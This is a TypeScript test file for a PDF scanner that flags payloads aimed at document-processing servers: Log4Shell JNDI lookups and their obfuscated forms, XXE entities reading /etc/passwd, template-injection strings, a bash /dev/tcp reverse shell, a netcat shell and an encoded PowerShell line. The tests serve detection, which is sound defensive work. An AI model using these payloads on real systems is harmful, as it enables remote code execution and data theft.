import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS } from "../../limits";
import { readPdf } from "../../pdf/document";
import { PdfBuilder, hexString } from "../../pdf/testing/pdf-builder";
import { collectFacts } from "./document-facts";
import { findLookups, findServerPayloads } from "./processor-injections";

const lookups = (text: string) => findLookups(text, { left: 100 }).map((l) => [l.what.split(" (")[0], l.target]);

describe("findLookups: the Log4j and Commons Text lookups a server would run", () => {
  it.each([
    ["${jndi:ldap://logs.example:1389/a}", "ldap://logs.example:1389/a"],
    ["${jndi:rmi://logs.example/o}", "rmi://logs.example/o"],
    ["${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://logs.example/x}", "ldap://logs.example/x"],
    ["${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://logs.example/z}", "rmi://logs.example/z"],
    ["${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//logs.example/e}", "ldap://logs.example/e"],
    ["${JNDI:LDAP://LOGS.EXAMPLE/A}", "LDAP://LOGS.EXAMPLE/A"],
  ])("%s", (text, target) => expect(lookups(`Report ${text} 2026`)).toEqual([["Log4j JNDI lookup", target]]));

  it("finds Commons Text's script, url and dns lookups", () => {
    expect(lookups("${script:javascript:java.lang.Runtime.getRuntime().exec('id')}")).toEqual([
      ["Commons Text script lookup", "java.lang.Runtime.getRuntime().exec('id')"],
    ]);
    expect(lookups("${url:UTF-8:http://logs.example/u}")).toEqual([
      ["Commons Text URL lookup", "http://logs.example/u"],
    ]);
    expect(lookups("${dns:address|logs.example}")).toEqual([["Commons Text DNS lookup", "logs.example"]]);
  });

  it.each([
    ["a template placeholder", "Dear ${customer.name}, your order ${order} shipped"],
    ["a lookup that stays inside the process", "${env:HOME} ${date:yyyy} ${lower:ABC} ${java:version}"],
    ["a JNDI name with no protocol", "${jndi:java:comp/env/jdbc/db}"],
    ["a shell variable", "echo ${PATH}"],
  ])("leaves %s alone", (_, text) => expect(lookups(text)).toEqual([]));

  it("reads a bounded number of `${` and says so", () => {
    const candidates = { left: 2 };
    expect(findLookups("${a} ${b} ${jndi:ldap://logs.example/late}", candidates)).toEqual([]);
    expect(candidates.left).toBeLessThan(0);
  });
});

describe("collectProcessorInjections: where servers read", () => {
  const factsOf = (pdf: Uint8Array) => collectFacts(readPdf(pdf, DEFAULT_LIMITS), DEFAULT_LIMITS).processorInjections;

  it("reads the strings of the document's objects, not the text its pages show", () => {
    const b = new PdfBuilder();
    const advisory = b.addStream("", "BT /F1 12 Tf 72 720 Td (Log4Shell: attackers send ${jndi:ldap://host/a}) Tj ET");
    b.addCatalog("", 1, `/Contents ${advisory} 0 R`);
    expect(factsOf(b.build())).toEqual([]);
    b.info = b.add(`<< /Title ${hexString("${jndi:ldap://logs.example/a}")} >>`);
    expect(factsOf(b.build())).toMatchObject([{ kind: "lookup", target: "ldap://logs.example/a" }]);
  });

  it("reads the XML metadata's declarations: an external entity, not an internal one", () => {
    const withXmp = (doctype: string) => {
      const b = new PdfBuilder();
      const xmp = b.addStream(
        "/Type /Metadata /Subtype /XML",
        `<?xml version="1.0"?>${doctype}<x:xmpmeta xmlns:x="adobe:ns:meta/"/>`,
      );
      b.addCatalog(`/Metadata ${xmp} 0 R`);
      return b.build();
    };
    expect(factsOf(withXmp(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`))).toMatchObject([
      { kind: "external-entity", target: "file:///etc/passwd" },
    ]);
    expect(factsOf(withXmp(`<!DOCTYPE x [<!ENTITY copy "(c) Acme">]>`))).toEqual([]);
    // a standard's DTD, named by an old generator, is fetched from its publisher: not an attacker's
    const dublinCore = `<!DOCTYPE rdf:RDF PUBLIC "-//DUBLIN CORE//DCMES DTD 2002/07/31//EN" "http://dublincore.org/documents/2002/07/31/dcmes-xml/dcmes-xml-dtd.dtd">`;
    expect(factsOf(withXmp(dublinCore))).toEqual([]);
    expect(factsOf(withXmp(`<!DOCTYPE x SYSTEM "https://logs.example/x.dtd">`))).toMatchObject([
      { kind: "external-entity", target: "https://logs.example/x.dtd" },
    ]);
  });

  it("reads an XML attachment's declarations (an e-invoice a payables system parses)", () => {
    const withAttachment = (xml: string) => {
      const b = new PdfBuilder();
      const file = b.addStream("/Type /EmbeddedFile /Subtype /text#2Fxml", xml);
      const spec = b.add(`<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F ${file} 0 R >> >>`);
      b.addCatalog(`/Names << /EmbeddedFiles << /Names [(factur-x.xml) ${spec} 0 R] >> >>`);
      return b.build();
    };
    const invoice = `<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>`;
    expect(factsOf(withAttachment(`<?xml version="1.0"?>${invoice}`))).toEqual([]);
    expect(
      factsOf(
        withAttachment(
          `\xef\xbb\xbf<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://logs.example/x.dtd"> %d;]>${invoice}`,
        ),
      ),
    ).toMatchObject([
      { kind: "external-entity", target: "http://logs.example/x.dtd", where: "attachment factur-x.xml" },
    ]);
  });
});

describe("findServerPayloads: template and shell code for the server that renders a value", () => {
  const kinds = (text: string) => findServerPayloads(text).map((p) => p.kind);
  it.each([
    ["Jinja2 object traversal", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "template"],
    ["Jinja2 through a global", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template"],
    ["FreeMarker's Execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "template"],
    ["Spring EL naming the runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}", "template"],
    ["OGNL's member access", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "template"],
    ["Velocity class loading", '#set($x=$class.forName("java.lang.Runtime"))', "template"],
    ["ERB running a command", "<%= system('id') %>", "template"],
    ["a template probe", "Invoice {{7*7}}", "template"],
    ["a substitution that fetches", "$(curl -s https://logs.example/x)", "command"],
    ["a backtick reverse shell", "`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`", "command"],
    ["a separator and netcat", "ACME; nc -e /bin/sh logs.example 4444", "command"],
    ["a separator and an encoded PowerShell", "x && powershell -nop -w hidden -enc SQBFAFgA", "command"],
  ])("finds %s", (_name, text, kind) => expect(kinds(`Report ${text} 2026`)).toContain(kind));

  it.each([
    ["a template placeholder left unrendered", "Dear {{ customer.name }}, ${order.id} shipped"],
    ["a shell tutorial's bookmark", "Command substitution: $(date) and `whoami`"],
    ["an install line in a manual's bookmark", "Install: curl -fsSL https://get.example.com | sh"],
    ["a price formula", "Total = 7 * 7 = 49"],
    ["jQuery in a comment", "$(document).ready(function () { $('#x').hide(); })"],
  ])("leaves %s alone", (_name, text) => expect(findServerPayloads(text)).toEqual([]));
});
